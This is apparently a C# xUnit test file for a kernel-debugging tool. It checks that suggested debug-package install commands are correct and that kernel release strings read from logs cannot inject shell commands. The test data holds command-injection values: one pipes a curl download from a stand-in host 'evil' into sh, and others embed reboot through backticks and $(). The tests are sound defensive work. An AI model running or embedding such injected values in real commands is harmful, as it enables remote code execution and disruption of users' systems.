using KernelDebug.Symbolization;
using Xunit;

namespace KernelDebug.Tests.Symbolization;

/// <summary>What people are told to type comes from a log, and may have been put there for them to type.</summary>
public class DebugPackagesTests
{
    [Theory]
    [InlineData("6.1.0-56-amd64", "apt-get install linux-image-6.1.0-56-amd64-dbg")]
    [InlineData("6.12.8+bpo-amd64", "linux-image-6.12.8+bpo-amd64-dbg")]
    [InlineData("6.8.5-301.fc40.x86_64", "dnf debuginfo-install kernel-6.8.5-301.fc40.x86_64")]
    public void Remedy_NamesThePackage(string release, string command) =>
        Assert.Contains(command, DebugPackages.Remedy(new WantedBuild(release, null, null), null), StringComparison.Ordinal);

    [Theory]
    [InlineData("6.1.0;curl${IFS}evil|sh;.fc40")]
    [InlineData("6.1.0`reboot`-generic")]
    [InlineData("6.1.0$(reboot)")]
    public void Remedy_PutsNothingAShellObeysIntoACommand(string release)
    {
        string remedy = DebugPackages.Remedy(new WantedBuild(release, null, null), null);

        Assert.DoesNotContain("install", remedy, StringComparison.Ordinal);
        Assert.DoesNotContain(release, remedy, StringComparison.Ordinal);
    }
}
